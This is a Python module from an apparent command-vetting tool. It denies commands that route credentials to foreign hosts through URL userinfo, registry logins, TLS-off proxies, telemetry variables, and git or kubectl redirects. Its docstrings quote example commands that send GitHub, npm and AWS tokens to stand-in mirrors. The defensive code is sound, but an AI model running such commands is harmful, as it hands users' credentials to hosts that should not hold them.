"""Credentials a command sends to a foreign host by how it is configured, not by an upload
(core/credroutes.py, data/credroutes.yaml):

- a word that puts an issuer's token into a URL's user:password for another host (`pip --index-url
  "https://ci:$(gh auth token)@mirror.example/simple"`), or a config file a package manager reads that does
  (`pip install -r requirements-mirror.txt` holding `${GITHUB_TOKEN}@pypi.example`, `npm install` after an
  .npmrc that sends ${NPM_TOKEN} to a mirror);
- a login to a registry that is handed another service's token as its password (`docker login HOST
  --password-stdin < ~/.config/gh/hosts.yml`, `-p "$(gh auth token)"`);
- a proxy that is not on this machine with certificate checks off (`npm whoami --https-proxy=… --strict-ssl=false`):
  the proxy reads every credential the tool sends;
- a variable a program sends as data (OTEL_RESOURCE_ATTRIBUTES) holding a credential, to a remote endpoint;
- git's url.<foreign>.insteadOf for a host the person uses, kubectl's set-cluster moving an existing cluster's
  server to a foreign host: every later call hands that host the stored credentials.
Each denies: the credential leaves for someone who should not hold it."""
from __future__ import annotations

import os
import posixpath
import re
from typing import TYPE_CHECKING

from ..credroutes import command_issuer, file_issuer, foreign, issuer_of, routed, routes
from ..infra import is_local, known_host
from ..yamlfile import DataError, load_yaml, read_regular_file
from .findings import Finding, deny
from .secrets import dumps_a_credential_file, secret_in_text
from .words import DYN

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Invocation, Run

_RULE = "net.credential-route"
_URL_HOST = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/]*@)?(\[[0-9a-f:]+\]|[^/:?#\s]+)")
_LOGINS = {"docker", "podman", "nerdctl", "buildah", "helm", "oras", "crane", "skopeo", "finch"}
_CAP = 256 * 1024


def judge(run: "Run", inv: "Invocation") -> list[Finding]:
    if inv.scope.remote:
        return []
    for check in (_in_words, _read_configs, _login, _proxy, _sent_variables, _redirect):
        found = check(run, inv)
        if found is not None:
            return [found]
    return []


def _project(inv: "Invocation") -> str | None:
    return inv.scope.project or inv.scope.cwd


def _in_words(run: "Run", inv: "Invocation") -> Finding | None:
    texts = [w.raw for w in inv.words] + [w.raw for _, w in inv.cmd.assignments]
    for text in texts:
        if "@" not in text:
            continue
        where = routed(text, inv.scope.home, _project(inv))
        if where:
            return deny(f"{inv.name} sends {where}: the credential leaves for a host that did not issue it",
                        "secrets", _RULE)
    return None


def _read_configs(run: "Run", inv: "Invocation") -> Finding | None:
    """The config files the command reads as it runs (the project's .npmrc, pip's -r files)."""
    name = posixpath.basename(inv.name)
    words = [w.value for w in inv.words]
    for reader in routes().readers:
        commands = [c.split() for c in reader["commands"]]
        match = next((c for c in commands if c[0] == name and words[:len(c) - 1] == c[1:]), None)
        if match is None:
            continue
        rest = words[len(match) - 1:]
        verb = next((w for w in rest if not w.startswith("-")), "")
        if reader.get("verbs") and verb not in reader["verbs"]:
            continue
        files: list[str] = []
        options = set(reader.get("options") or ())
        for i, w in enumerate(rest):
            option, eq, value = w.partition("=")
            if option in options and eq:
                files.append(value)
            elif w in options and i + 1 < len(rest):
                files.append(rest[i + 1])
        if inv.scope.cwd:
            files += [f for f in reader.get("files") or ()]
        for f in files:
            if DYN in f or not inv.scope.cwd:
                continue
            path = posixpath.normpath(posixpath.join(inv.scope.cwd, os.path.expanduser(f) if f.startswith("~/")
                                                     else f))
            text = _text(run, path)
            where = routed(text, inv.scope.home, _project(inv)) if text else None
            if where:
                return deny(f"{inv.name} reads {f}, which sends {where}: the credential leaves for a host that did "
                            f"not issue it", "secrets", _RULE)
    return None


def _text(run: "Run", path: str) -> str | None:
    if path in run.written:
        return run.written[path]
    try:
        data = read_regular_file(path, _CAP)
    except (OSError, DataError):
        return None
    return None if b"\x00" in data[:4096] else data.decode("utf-8", "replace")


def _login(run: "Run", inv: "Invocation") -> Finding | None:
    """`docker login HOST --password-stdin < ~/.config/gh/hosts.yml`, `helm registry login HOST -p "$(gh auth token)"`."""
    name = posixpath.basename(inv.name)
    words = inv.words
    values = [w.value for w in words]
    if name not in _LOGINS or "login" not in values:
        return None
    after = values[values.index("login") + 1:]
    host = None
    skip = False
    for i, v in enumerate(after):
        if skip:
            skip = False
            continue
        if v in ("-u", "--username", "-p", "--password", "--authfile", "--cert-dir"):
            skip = True
            continue
        if not v.startswith("-"):
            host = v
            break
    if host is None or DYN in host:
        return None
    m = _URL_HOST.match(host)
    host = m.group(1) if m else host
    issuer = None
    for i, w in enumerate(words):
        option, eq, value = w.raw.partition("=")
        if option in ("-p", "--password") and eq:
            issuer = issuer_of(value, inv.scope.home)
        elif w.value in ("-p", "--password") and i + 1 < len(words):
            issuer = issuer_of(words[i + 1].raw + " " + words[i + 1].origin, inv.scope.home)
        if issuer is not None:
            break
    if issuer is None and "--password-stdin" in values:
        issuer = _stdin_issuer(run, inv)
    if issuer is not None and foreign(host, issuer, inv.scope.home, _project(inv)):
        return deny(f"{name} login hands {host} a {issuer.service} credential as its password: the credential "
                    f"leaves for a host that did not issue it", "secrets", _RULE)
    return None


def _stdin_issuer(run: "Run", inv: "Invocation"):
    cmd = inv.cmd
    home = inv.scope.home
    for r in reversed(cmd.redirects):
        if r.op == "<" and r.fd in (None, 0) and r.target is not None and r.target.static:
            path = r.target.value
            path = home.rstrip("/") + path[1:] if path.startswith("~/") else \
                posixpath.normpath(posixpath.join(inv.scope.cwd or "/", path))
            return file_issuer(path, home)
    source = cmd.stdin_from
    if source is not None:
        return command_issuer(" ".join(w.value if w.static else w.raw for w in source.argv), home)
    return None


def _proxy(run: "Run", inv: "Invocation") -> Finding | None:
    """An outside proxy with certificate checks off: it reads the tool's requests, tokens and all."""
    tables = routes()
    pairs = [w.value for w in inv.words] + [f"{n}={w.value}" for n, w in inv.cmd.assignments]
    joined = [f"{a} {b}" for a, b in zip(pairs, pairs[1:])]
    if not (set(pairs) & tables.tls_off or set(joined) & tables.tls_off or
            any(p.lower().replace(" ", "") in {t.lower() for t in tables.tls_off} for p in pairs)):
        return None
    for i, p in enumerate(pairs):
        option, eq, value = p.partition("=")
        if option in tables.proxies and eq:
            proxy = value
        elif p in tables.proxies and i + 1 < len(pairs):
            proxy = pairs[i + 1]
        else:
            continue
        m = _URL_HOST.match(proxy)
        host = m.group(1) if m else ""
        if host and DYN not in host and not is_local(host) and not known_host(host, inv.scope.home, _project(inv)):
            return deny(f"{inv.name} sends its requests through the proxy {host} with certificate checks off: the "
                        f"proxy reads every credential the tool sends", "secrets", _RULE)
    return None


def _sent_variables(run: "Run", inv: "Invocation") -> Finding | None:
    """OTEL_RESOURCE_ATTRIBUTES="aws.secret=$(aws configure get aws_secret_access_key)" beside a remote endpoint."""
    assigned = {n: w for n, w in inv.cmd.assignments}
    if not assigned:
        return None
    for group in routes().sent_variables:
        for name in group["variables"]:
            word = assigned.get(name)
            if word is None:
                continue
            text = word.raw + " " + word.origin
            if issuer_of(text, inv.scope.home) is None and not secret_in_text(text, inv.scope) and \
                    not dumps_a_credential_file(text, inv.scope):
                continue
            for endpoint in group["endpoints"]:
                value = assigned[endpoint].value if endpoint in assigned else inv.scope.variables.get(endpoint)
                m = _URL_HOST.match(value or "")
                host = m.group(1) if m and value else ""
                if host and DYN not in host and not is_local(host):
                    return deny(f"{name} carries a credential ({word.raw}) that {inv.name} sends as "
                                f"{group['what']} to {host}: the secret leaves the machine", "secrets", _RULE)
    return None


_INSTEAD = re.compile(r"(?i)^url\.(.+)\.(?:push)?insteadof$")


def _redirect(run: "Run", inv: "Invocation") -> Finding | None:
    name = posixpath.basename(inv.name)
    values = [w.value for w in inv.words]
    home = inv.scope.home
    if name == "git":
        for i, v in enumerate(values):
            key, eq, value = v.partition("=")
            m = _INSTEAD.match(key)
            if not m:
                continue
            target = value if eq else (values[i + 1] if i + 1 < len(values) else "")
            new, old = _host_of(m.group(1)), _host_of(target)
            if new and old and new != old and DYN not in new + old and not is_local(new) \
                    and not known_host(new, home, _project(inv)):
                return deny(f"git config sends git's traffic for {target} to {new}: the credential helper hands "
                            f"that host the stored {old} credentials", "secrets", _RULE)
    if name == "kubectl" and values[:2] == ["config", "set-cluster"] and len(values) > 2:
        cluster = values[2]
        server = next((v.partition("=")[2] for v in values if v.startswith("--server=")), None)
        if server is None and "--server" in values and values.index("--server") + 1 < len(values):
            server = values[values.index("--server") + 1]
        new = _host_of(server or "")
        old = _cluster_server(cluster, home, inv.scope.variables.get("KUBECONFIG"))
        if new and old and new != old and DYN not in new and not is_local(new) \
                and not known_host(new, home, _project(inv)):
            return deny(f"kubectl config set-cluster moves {cluster} from {old} to {new}: kubectl then hands that "
                        f"host the cluster's credentials on every call", "secrets", _RULE)
    return None


def _host_of(url: str) -> str:
    m = re.match(r"(?i)^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/]*@)?(\[[0-9a-f:]+\]|[^/:?#\s]+)", url.strip())
    return m.group(1).lower() if m and ("://" in url or "@" in url) else ""


def _cluster_server(cluster: str, home: str, kubeconfig: str | None) -> str:
    """The host an existing kubeconfig cluster entry points at ("" when there is none)."""
    paths = [p for p in (kubeconfig or "").split(":") if p and DYN not in p] or [posixpath.join(home, ".kube/config")]
    for path in paths:
        try:
            doc = load_yaml(read_regular_file(path, _CAP).decode("utf-8", "replace"), path)
        except (OSError, DataError):
            continue
        clusters = doc.data.get("clusters") if isinstance(doc.data, dict) else None
        for entry in clusters if isinstance(clusters, list) else ():
            if isinstance(entry, dict) and entry.get("name") == cluster and isinstance(entry.get("cluster"), dict):
                return _host_of(str(entry["cluster"].get("server") or ""))
    return ""


__all__ = ["judge"]
